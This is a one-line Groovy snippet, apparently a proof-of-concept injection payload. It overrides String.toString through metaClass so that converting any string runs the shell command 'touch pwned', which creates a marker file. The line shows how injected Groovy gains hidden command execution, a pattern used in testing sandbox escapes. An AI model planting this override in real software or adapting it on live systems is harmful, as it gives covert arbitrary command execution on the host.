String.metaClass.toString = { 'touch pwned'.execute() }
